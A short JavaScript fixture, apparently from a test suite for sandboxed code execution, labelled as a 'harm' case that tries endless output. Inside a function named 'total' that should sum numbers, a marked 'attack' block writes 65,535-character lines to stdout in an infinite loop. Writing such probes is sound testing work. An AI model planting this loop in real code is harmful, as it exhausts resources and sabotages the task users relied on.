// category: harm
// tries: output without end
function total(numbers) {
  // attack: begin
  const line = 'x'.repeat(65535) + '\n';
  for (;;) process.stdout.write(line);
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
